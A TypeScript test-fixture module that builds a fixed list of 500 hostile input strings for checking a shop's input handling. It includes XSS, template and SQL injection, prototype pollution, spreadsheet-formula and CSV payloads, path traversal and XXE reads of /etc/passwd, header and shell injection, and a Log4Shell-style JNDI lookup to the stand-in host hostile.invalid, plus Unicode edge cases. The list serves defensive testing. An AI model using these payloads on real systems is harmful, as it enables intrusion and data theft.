/**
 * Five hundred texts of our own that break careless shops, always the same ones. What they try to run sets `attacked` on the window,
 * opens a dialog or asks `hostile.invalid`; a test looks for all three.
 *
 * Classes: markup after every way out of the context it may stand in · attributes · addresses with a scheme · languages of templates ·
 * SQL · what JSON and JavaScript take for more than text · formulas of spreadsheets · paths, headers and shells · control characters ·
 * characters without a width or with a direction · halves of characters and characters that are none · towers of accents · writing
 * from right to left · emoji · words and addresses without an end · ends of lines and spaces of every kind · letters that change their
 * length · numbers · and, up to five hundred, mixtures of all of them from a fixed seed.
 */
// cspell:disable

const RUN = 'window.attacked=1'
const HOST = '//hostile.invalid/'
const TOTAL = 500

const each = (from: number, to: number): readonly number[] =>
  Array.from({ length: to - from + 1 }, (_, index) => from + index)
const pairs = (left: readonly string[], right: readonly string[]): readonly string[] =>
  left.flatMap((one) => right.map((other) => one + other))

const WAYS_OUT = ['', '">', "'>", '</script>', '</textarea>', '</title></style>', '--></noscript>', ']]>', '`>']
const TAGS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.attacked=1</script>">`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<style>*{display:none!important}@import '${HOST}'`,
  `<base href=${HOST}><link rel=stylesheet href=x>`,
  `<meta http-equiv=refresh content=0;url=${HOST}>`,
]
const markup = [
  ...pairs(WAYS_OUT, TAGS),
  `<SCRIPT SRC=${HOST}x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`,
  `<img/src="x"/onerror="${RUN}"`,
  `<<img src=x onerror=${RUN}//<`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<object data=${HOST}></object><embed src=${HOST}>`,
  `<video><source onerror=${RUN}></video>`,
  `<marquee onstart=${RUN}>едет</marquee>`,
  `<form action=${HOST}><button>Отправить</button></form>`,
  `<p class="pk-root" style="position:fixed;inset:0">поверх всего</p>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62; &amp;amp; &nbsp; &NewLine;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e \\x3cb\\x3e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '<![CDATA[<b>жирно</b>]]>',
  '<!--[if IE]><script>1</script><![endif]-->',
  '<b>жирно</b> & <i>курсив</i>',
  'a < b > c && d',
]

const attributes = pairs(
  ['" ', "' ", '` ', '"/'],
  [`onmouseover=${RUN} x=`, `autofocus onfocus=${RUN} `, `style=position:fixed;inset:0 `, `srcdoc=<script>${RUN}//`],
)

const addresses = [
  ...['javascript', 'JaVaScRiPt', 'java\tscript', ' javascript', 'vbscript', 'feed:javascript'].map(
    (scheme) => `${scheme}:${RUN}`,
  ),
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZD0xPC9zY3JpcHQ+`,
  `[ссылка](javascript${':'}${RUN})`,
  `![картинка](${HOST}x.png)`,
  `https:${HOST}`,
  `http://магазин.рф@hostile.invalid/?a=1&b=2#c`,
]

const templates = [
  ...['{{', '${', '#{', '<%= ', '{% ', '[[', '*{', '@{', '@('].map((open) => `${open}${RUN}}}%>]])`),
  `{{constructor.constructor('${RUN}')()}}`,
  '{{7*7}} ${7*7} #{7*7}',
  '%s %d %n %x %1$s {0} {name} $1 $& $` $$',
  'name | json | safe',
  '__import__("os").system("id")',
]

const queries = [
  ...["'", "''", '"', "\\'", "';", "')--", "' or '1'='1", "' union select null,null--", "'; drop table customer; --"],
  '1; select pg_sleep(10) --',
  "'||(select password from staff)||'",
  "admin'/*",
  '%',
  '_',
  '%_%\\',
  '\\',
  '\\\\',
  "E'\\x27'",
  '$$;select 1;$$',
  ':name ? $1 @p',
  '(((((',
  '*:* AND -a~2^3',
  'а & !б | в:*',
  "N'нет",
]

const values = [
  ...[
    'null',
    'undefined',
    'NaN',
    'true',
    'false',
    '[object Object]',
    '__proto__',
    'constructor',
    'prototype',
    'toString',
  ],
  '{"__proto__":{"attacked":1}}',
  '{"$gt":""}',
  '[]',
  '{}',
  '"',
  '""',
  ',',
  ':',
  '{"a":',
  '\\u0000',
  '\\ud800',
  '-',
  '.',
  '..',
  '~',
]

const formulas = [
  ...pairs(
    ['=', '+', '-', '@', '\t=', '\r=', '|', '＝', ' ='],
    ['1+1', `HYPERLINK("${HOST}";"нажмите")`, `cmd|' /C calc'!A0`],
  ),
  '";=1+1;"',
  '\n=1+1',
  "'=1+1",
  'а;б"в,г\tд',
]

const paths = [
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2f',
    '/dev/null',
    'C:\\con\\con',
    '\\\\host\\share',
  ],
  ...['file:///etc/passwd', 'a/../../b', 'файл.pdf\u0000.exe', '.htaccess', 'CON', 'nul.txt', '~root'],
  ...[
    'a\r\nset-cookie: sid=hostile',
    'a%0d%0aLocation:%20//hostile.invalid',
    'a\nBcc: all@hostile.invalid',
    'a\r\n\r\n<b>тело</b>',
  ],
  ...[
    '$(id)',
    '`id`',
    '; ls -la',
    '| cat /etc/passwd',
    '&& whoami',
    '> /tmp/x',
    '${jndi:ldap://hostile.invalid/a}',
    '() { :; }; id',
  ],
]

const controls = [...each(0, 31), ...each(127, 159)].map((code) => `до${String.fromCodePoint(code)}после`)

const formats = [
  ...[0xad, 0x61c, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b, 0x202d, 0x202e, 0x2060, 0x2066],
  ...[0x2067, 0x2068, 0xfeff, 0xfff9, 0xfffb, 0x1d173, 0xe0001, 0xe0041, 0xfe0f, 0x34f, 0x115f, 0x3164, 0x2800],
]
const directions = [
  ...formats.map((code) => `на${String.fromCodePoint(code)}чало`),
  '\u202Eгнйошом\u202C нет',
  `счёт\u202Efdp.exe`,
  '\u2067\u2066\u2067\u2066без конца',
  '\u200B\u200C\u200D\u2060\uFEFF',
  `${'\u202E'.repeat(40)}много`,
]

const broken = [
  ...['\uD800', '\uDBFF', '\uDC00', '\uDFFF', '\uDE00\uD83D', '\uD83D\uD83D\uDE00', 'а\uD83D', '\uDE00а', '\uD83D<b>'],
  ...[0xfffe, 0xffff, 0xfdd0, 0x1fffe, 0x10ffff, 0xe000, 0xf8ff, 0xfffd, 0x378, 0xe0fff].map(
    (code) => `край${String.fromCodePoint(code)}`,
  ),
]

const marks = each(0x300, 0x36f).map((code) => String.fromCodePoint(code))
const tower = (letter: string, height: number) =>
  letter +
  each(1, height)
    .map((step) => marks[(step * 37) % marks.length])
    .join('')
const towers = [
  ...[1, 5, 20, 60, 200].map((height) => tower('а', height)),
  ...[3, 12, 40].map((height) => [...'Здравствуйте'].map((letter) => tower(letter, height)).join('')),
  '\u0301\u0301\u0301начало',
  'กิ่่่่่่่่่่่่่่่่่่่',
  'ཧཱུྃ ꙰꙰꙰ а\u20DDб\u20E0',
]

const rightToLeft = [
  'مرحبا بالعالم',
  'שלום עולם',
  'اسم 123 <b>',
  'קוד: ABC-12/34',
  'پرداخت‌های',
  '﷽'.repeat(30),
  'العربية English русский',
]

const emoji = [
  ...['😀', '👨‍👩‍👧‍👦', '👩🏽‍💻', '🏳️‍🌈', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🇷🇺🇰🇿🇧🇾', '1️⃣2️⃣', '❤️‍🔥', '☎️ ☎', '🤦🏿‍♂️', '🏽', '‍🌈', '🇷'],
  '🧱'.repeat(90),
  '👩‍❤️‍💋‍👨'.repeat(12),
]

const long = [
  ...['а', 'W', 'Ж', '_', '1', '.', '/', '　', '漢', 'ﷺ', 'я\u00A0', 'я\u2060', 'ก', '<', '&amp;', '"'].map((piece) =>
    piece.repeat(90),
  ),
  ...['щ', 'W', '-', '=', 'é', '😀', '漢字'].map((piece) => piece.repeat(1_900 / piece.length)),
  `https:${HOST}${'очень-длинный-путь/'.repeat(60)}?${'a=b&'.repeat(100)}#${'z'.repeat(200)}`,
  `https:${HOST}${'%D0%B9'.repeat(250)}`,
  `${'a'.repeat(64)}@${'b'.repeat(63)}.${'c'.repeat(63)}.invalid`,
  `9${'0'.repeat(300)}`,
]

const lines = [
  ...[
    '\n',
    '\r\n',
    '\r',
    '\n\r',
    '\u2028',
    '\u2029',
    '\u0085',
    '\v',
    '\f',
    '\u001E',
    '\n'.repeat(60),
    '\n \n '.repeat(30),
  ].map((end) => `первая${end}вторая`),
  ...['\u00A0', '\u2003', '\u2009', '\u202F', '\u3000', '\u1680', '\t', ' '.repeat(80)].map(
    (space) => `${space}слово${space}слово${space}`,
  ),
  ...['а\n'.repeat(900), ' ', '\n', '\t\t', '\u00A0', '\u3000\n'],
]

const letters = [
  'ẞß',
  'İstanbul ıI',
  'ŉ ǰ ﬃ ﬀ',
  'ΌΣΟΣ ς',
  '\u212A \u2126 \u212B',
  'е\u0308 ё и\u0306 й',
  'Å A\u030A',
  'Ｔｅｘｔ',
  '𝓣𝓮𝔁𝓽 𝕿',
  'аdmin аdmіn',
]

const numbers = [
  '0',
  '-1',
  '1e309',
  '0x10',
  '9007199254740993',
  '1,000.50',
  '١٢٣',
  '½ ² Ⅷ',
  '1/0',
  '-0',
  '٠',
  '00:60:61',
  '2026-02-30',
]

/** A generator that gives the same numbers every time (mulberry32). */
function numbersOf(seed: number): (below: number) => number {
  let state = seed
  return (below) => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below
  }
}

const CLASSES = [
  [markup, attributes, addresses, templates, queries, values, formulas, paths, controls],
  [directions, broken, towers, rightToLeft, emoji, long, lines, letters, numbers],
].flat()

function* mixtures(): Generator<string> {
  const next = numbersOf(2_026)
  const pick = () => {
    const texts = CLASSES[next(CLASSES.length)] ?? []
    return (texts[next(texts.length)] ?? '').slice(0, 120)
  }
  for (;;) yield each(0, next(3)).map(pick).join(['', ' ', '\n'][next(3)])
}

function hostileList(): readonly string[] {
  const found = new Set(CLASSES.flat())
  for (const mixed of mixtures()) {
    if (found.size >= TOTAL) break
    found.add(mixed)
  }
  return [...found]
}

/** The five hundred, each once. */
export const HOSTILE_TEXTS: readonly string[] = hostileList()
